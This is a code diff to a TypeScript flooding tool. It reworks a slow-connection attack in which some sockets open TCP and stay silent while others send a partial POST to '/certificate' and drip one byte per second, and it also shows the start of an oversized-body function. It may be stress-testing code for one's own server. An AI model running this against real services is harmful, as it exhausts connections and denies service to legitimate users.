@@ -5,6 +5,7 @@
  */
 import { randomBytes } from 'node:crypto';
 import { Agent, request } from 'node:https';
+import { connect as connectPlain } from 'node:net';
 import { connect } from 'node:tls';
 
 /** What is sent, where to, and how much of it. */
@@ -86,26 +87,27 @@ function post(url: string, agent: Agent, token: string, body: string): Promise<s
 /** Half of them never speak TLS; the others send a byte of their request now and then. */
 async function slow({ host, ports, count: most, seconds }: Flood & { kind: 'slow' }, count: Count): Promise<void> {
   const sockets = Array.from({ length: most }, (_, index) => {
-    const socket = connect({ host, port: ports[index % ports.length] ?? 443, rejectUnauthorized: false });
-    const drip = setInterval(() => socket.write('x'), 1000);
-    socket.on('secureConnect', () => {
-      count('connected');
+    const port = ports[index % ports.length] ?? 443;
+    const isSilent = Math.floor(index / ports.length) % 2 === 0;
+    const socket = isSilent ? connectPlain({ host, port }) : connect({ host, port, rejectUnauthorized: false });
+    let drip: NodeJS.Timeout | undefined;
+    socket.on(isSilent ? 'connect' : 'secureConnect', () => {
+      count(isSilent ? 'silent' : 'dripping');
+      if (isSilent) return;
       socket.write(
         'POST /certificate HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 16000\r\n\r\n',
       );
+      drip = setInterval(() => socket.write('x'), 1000);
     });
     socket.on('error', (error: NodeJS.ErrnoException) => count(error.code ?? 'error'));
     socket.on('close', () => {
       clearInterval(drip);
       count('closed');
     });
-    return { socket, drip };
+    return socket;
   });
   await new Promise((resolve) => setTimeout(resolve, seconds * 1000)); // as long as the attack is to last
-  for (const { socket, drip } of sockets) {
-    clearInterval(drip);
-    socket.destroy();
-  }
+  for (const socket of sockets) socket.destroy();
 }
 
 function huge({ url, bytes, chunked }: Flood & { kind: 'huge' }, count: Count): Promise<void> {
